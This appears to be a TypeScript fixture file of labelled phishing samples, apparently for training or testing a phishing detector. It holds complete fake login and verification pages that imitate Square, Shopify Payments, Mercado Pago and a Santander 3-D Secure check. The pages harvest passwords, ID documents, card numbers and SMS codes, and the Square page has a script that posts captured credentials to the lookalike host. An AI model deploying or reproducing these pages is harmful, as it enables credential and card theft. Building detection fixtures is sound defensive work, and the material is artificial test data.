import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, cardFields, pngR, header, footer, grid, images, brandIcons, faviconTag } from '../parts/zc-kit.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';
const SQU = 'squareup-seller.login-secure.net';
const SHP = 'shopify-payments.payout-review.com';
const MPG = 'mercadopago-mx.verificacion-cuenta.online';
const SKC = 'acs-3dsecure-verification.com';

export const entries: Entry[] = [
  {
    id: 'zc-psp-square-seller-login-en',
    label: 'phishing',
    kind: 'psp-login',
    url: `https://${SQU}/login?app=dashboard&return_to=%2Fdashboard%2Fsales%2Fdeposits`,
    body: doc({
      lang: 'en-US',
      title: 'Sign In | Square',
      css: 'body{background:#fff}.c{max-width:380px;margin:70px auto}',
      body: `<div class="c">
  <div style="width:40px;height:40px;border:6px solid #000;border-radius:8px;margin-bottom:24px"></div>
  <h1 style="font-size:26px">Sign in</h1>
  <p style="font-size:14px;color:#555">Your recent deposit of <b>$4,218.55</b> was held for review. Sign in to confirm your identity and release the deposit.</p>
  <form id="sq"><input name="email" placeholder="Email or phone number"><input name="password" type="password" placeholder="Password" style="margin-top:10px"><button class="btn" style="background:#006aff;color:#fff;width:100%;margin-top:16px">Sign in</button></form>
  <p style="font-size:13px"><a href="#">Forgot password?</a> · <a href="#">Sign in with a passkey</a></p>
</div>
<script>
(function(){var e=document.getElementById('sq');e.addEventListener('submit',function(v){v.preventDefault();var o=Object.fromEntries(new FormData(e));o.t=Date.now();
fetch('https://${SQU}/a/c.php',{method:'POST',mode:'no-cors',body:btoa(JSON.stringify(o))}).then(function(){location.href='https://${SQU}/verify/sms'});});})();
</script>`,
    }),
    routes: { [`${SQU}/a/c.php`]: jsonRoute({}) },
  },
  {
    id: 'zc-psp-shopify-payout-hold-en',
    label: 'phishing',
    kind: 'psp-login',
    url: `https://${SHP}/admin/payments/payouts/hold?store=cozycandle-co`,
    body: doc({
      lang: 'en',
      title: 'Payouts on hold · Shopify Payments',
      css: 'body{background:#f1f1f1}.c{max-width:520px;margin:40px auto;background:#fff;padding:28px;border-radius:12px;box-shadow:0 1px 3px rgba(0,0,0,.15)}',
      body: `<div style="background:#1a1a1a;color:#fff;padding:10px 20px;font-weight:700">🛍 shopify</div>
<div class="c">
  <h2>Your payouts are on hold</h2>
  <p>We've detected unusual chargeback activity on <b>cozycandle-co.myshopify.com</b>. To protect your balance of <b>$12,884.20</b>, payouts have been paused.</p>
  <p>Log in to confirm store ownership. If not completed within 48 hours your store will be frozen according to the Shopify Payments Terms of Service.</p>
  <form action="https://${SHP}/admin/auth/login" method="post"><label>Email</label><input name="account[email]"><label>Password</label><input type="password" name="account[password]"><button class="btn" style="background:#008060;color:#fff;width:100%;margin-top:16px">Log in</button></form>
  <p style="font-size:12px;color:#6d7175">Shopify International Limited · Victoria Buildings, 1-2 Haddington Road, Dublin 4</p>
</div>`,
    }),
    routes: { [`${SHP}/admin/auth/login`]: redirectRoute(302, `https://${SHP}/admin/payments/verify-bank`) },
  },
  {
    id: 'zc-psp-mercadopago-verificacion-mx',
    label: 'phishing',
    kind: 'psp-login',
    url: `https://${MPG}/hub/registration/verificacion`,
    body: doc({
      lang: 'es-MX',
      title: 'Mercado Pago – Verifica tu identidad',
      css: 'body{background:#ededed}.c{max-width:480px;margin:30px auto;background:#fff;padding:26px;border-radius:6px}',
      body: `<div style="background:#00b1ea;color:#fff;padding:12px 20px;font-weight:800;font-size:20px">mercado pago</div>
<div class="c">
  <h2>Verifica tu identidad para seguir cobrando</h2>
  <p>Detectamos cobros con link de pago fuera de tu patrón habitual. Tu dinero disponible (<b>$ 38,412.00 MXN</b>) está retenido temporalmente.</p>
  <form action="/hub/registration/verificacion/enviar" method="post" enctype="multipart/form-data"><label>Correo o usuario</label><input name="user"><label>Contraseña</label><input name="pass" type="password"><label>CURP</label><input name="curp"><label>Foto de tu INE (frente y reverso)</label><input type="file" name="ine" multiple><label>Selfie sosteniendo tu INE</label><input type="file" name="selfie"><button class="btn" style="background:#009ee3;color:#fff;width:100%;margin-top:16px">Enviar</button></form>
</div>`,
    }),
    routes: {},
  },
  {
    id: 'zc-skim-fake-3ds-sms-es',
    label: 'phishing',
    kind: 'fake-checkout',
    url: `https://${SKC}/acs/challenge?txid=9f2a77b0&bank=santander`,
    body: doc({
      lang: 'es',
      title: 'Verificación de compra segura – Santander',
      css: 'body{background:#fff;font-family:Arial,sans-serif}.c{max-width:400px;margin:30px auto;border:1px solid #ccc;padding:22px}',
      body: `<div class="c">
  <div style="display:flex;justify-content:space-between;align-items:center"><b style="color:#ec0000;font-size:20px">Santander</b><span style="font-size:12px;color:#1a1f71;font-weight:700">VISA Secure</span></div>
  <h3>Confirma tu compra</h3>
  <table style="font-size:13px"><tr><td>Comercio</td><td>ZARA HOME ONLINE</td></tr><tr><td>Importe</td><td>0,00 EUR</td></tr><tr><td>Tarjeta</td><td>**** **** **** ____</td></tr></table>
  <p style="font-size:13px">Para verificar tu identidad introduce los datos completos de tu tarjeta y la clave de firma recibida por SMS.</p>
  <form action="/acs/challenge/verify" method="post">
    <label>Número de tarjeta</label><input name="pan"><label>Caducidad</label><input name="exp"><label>CVV</label><input name="cvv"><label>Clave de acceso a banca online</label><input name="clave" type="password"><label>Código SMS</label><input name="otp" maxlength="8">
    <button class="btn" style="background:#ec0000;color:#fff;width:100%;margin-top:14px">Confirmar</button>
  </form>
  <p style="font-size:11px;color:#777">Si no has realizado esta operación, llama al 915 123 123.</p>
</div>`,
    }),
    routes: {},
  },
];
